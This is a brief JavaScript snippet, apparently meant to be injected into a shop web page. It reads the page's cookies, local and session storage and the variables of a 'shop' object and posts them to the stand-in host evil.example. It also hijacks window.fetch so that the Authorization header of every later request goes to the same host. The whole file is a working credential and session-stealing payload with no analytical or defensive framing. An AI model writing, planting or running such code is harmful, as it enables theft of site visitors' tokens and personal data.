// Reads everything that a script of this page can read, and listens to the requests that the page sends from now on.
var original = window.fetch;
function send(what) {
  original('https://evil.example/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
}
var found = { localStorage: {}, sessionStorage: {}, variables: {}, cookie: document.cookie };
for (var i = 0; i < localStorage.length; i++) {
  found.localStorage[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
}
for (var j = 0; j < sessionStorage.length; j++) {
  found.sessionStorage[sessionStorage.key(j)] = sessionStorage.getItem(sessionStorage.key(j));
}
for (var name in window.shop) {
  found.variables[name] = window.shop[name];
}
send(found);
window.fetch = function (address, details) {
  var header = details && details.headers && details.headers.Authorization;
  if (header) {
    send({ requestHeader: header });
  }
  return original(address, details);
};
